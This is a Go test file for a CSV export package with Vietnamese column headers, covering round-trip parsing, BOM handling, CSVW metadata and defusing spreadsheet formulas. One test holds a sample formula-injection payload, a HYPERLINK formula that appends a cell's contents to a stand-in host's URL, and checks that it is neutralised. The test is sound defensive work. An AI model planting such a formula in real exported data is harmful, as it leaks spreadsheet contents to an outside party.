package csv

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"tiendo/internal/export/table"
)

func sample() table.Sheet {
	return table.Sheet{Name: "tasks", Title: "Danh mục nhiệm vụ", Columns: []table.Column{
		{Header: "STT", Kind: table.Int}, {Header: "Nhiệm vụ", Kind: table.Text},
		{Header: "Thời hạn", Kind: table.Date}, {Header: "% đạt", Kind: table.Percent},
		{Header: "Tình trạng", Name: "status", Kind: table.Text},
	}, Rows: [][]any{
		{1, "Xây dựng \"cơ sở dữ liệu\", đất đai", time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC), 0.853, "completed"},
		{2, "Đào tạo\nkỹ năng số", nil, nil, "in_progress"},
	}}
}

func TestWriteParsesBack(t *testing.T) {
	for _, bom := range []bool{false, true} {
		var buf bytes.Buffer
		if err := Write(&buf, sample(), Options{BOM: bom}); err != nil {
			t.Fatal(err)
		}
		b := buf.Bytes()
		if got := bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}); got != bom {
			t.Fatalf("BOM present=%v, want %v", got, bom)
		}
		recs, err := stdcsv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte{0xEF, 0xBB, 0xBF}))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			{"stt", "nhiem_vu", "thoi_han", "dat", "status"},
			{"1", "Xây dựng \"cơ sở dữ liệu\", đất đai", "2026-11-25", "0.853", "completed"},
			{"2", "Đào tạo\nkỹ năng số", "", "", "in_progress"},
		}
		if len(recs) != len(want) {
			t.Fatalf("records %q", recs)
		}
		for i := range want {
			if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
				t.Errorf("row %d = %q, want %q", i, recs[i], want[i])
			}
		}
	}
}

func TestMetadataJSON(t *testing.T) {
	b, err := MetadataJSON(sample(), "https://example.gov.vn/open/tasks.csv")
	if err != nil {
		t.Fatal(err)
	}
	var m struct {
		Context     string `json:"@context"`
		URL         string `json:"url"`
		TableSchema struct {
			Columns []struct{ Name, Titles, Datatype string } `json:"columns"`
		} `json:"tableSchema"`
	}
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, b)
	}
	if m.Context != "http://www.w3.org/ns/csvw" || m.URL != "https://example.gov.vn/open/tasks.csv" {
		t.Errorf("context/url: %+v", m)
	}
	want := []string{"stt/STT/integer", "nhiem_vu/Nhiệm vụ/string", "thoi_han/Thời hạn/date", "dat/% đạt/decimal", "status/Tình trạng/string"}
	if len(m.TableSchema.Columns) != len(want) {
		t.Fatalf("columns %+v", m.TableSchema.Columns)
	}
	for i, c := range m.TableSchema.Columns {
		if got := c.Name + "/" + c.Titles + "/" + c.Datatype; got != want[i] {
			t.Errorf("column %d = %s, want %s", i, got, want[i])
		}
	}
}

func TestWrongKindFails(t *testing.T) {
	s := sample()
	s.Rows = [][]any{{"x"}}
	if err := Write(&bytes.Buffer{}, s, Options{}); err == nil {
		t.Fatal("want an error for text in an integer column")
	}
}

// TestWriteNeutralisesFormulas: a text cell that a spreadsheet would run as
// a formula is written with a leading apostrophe; numbers, negative ones
// included, are written as numbers.
func TestWriteNeutralisesFormulas(t *testing.T) {
	s := table.Sheet{Columns: []table.Column{{Header: "Nhiệm vụ", Kind: table.Text}, {Header: "Số", Kind: table.Number}},
		Rows: [][]any{
			{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, -3.5},
			{"+84 912", 1},
			{"-giảm chi", 2},
			{"@SUM(A1:A9)", 3},
			{"\tẩn", 4},
			{"\rdòng", 5},
			{"Bình thường = không đổi", 6},
			{"", 7},
		}}
	var buf bytes.Buffer
	if err := Write(&buf, s, Options{}); err != nil {
		t.Fatal(err)
	}
	recs, err := stdcsv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x.example/?"&A1,"Bấm")`, "'+84 912", "'-giảm chi", "'@SUM(A1:A9)", "'\tẩn", "'dòng", // encoding/csv drops a lone CR (UseCRLF)
		"Bình thường = không đổi", ""}
	for i, w := range want {
		if got := recs[i+1][0]; got != w {
			t.Errorf("row %d: %q, want %q", i+1, got, w)
		}
	}
	if recs[1][1] != "-3.5" {
		t.Errorf("a negative number became %q", recs[1][1])
	}
}
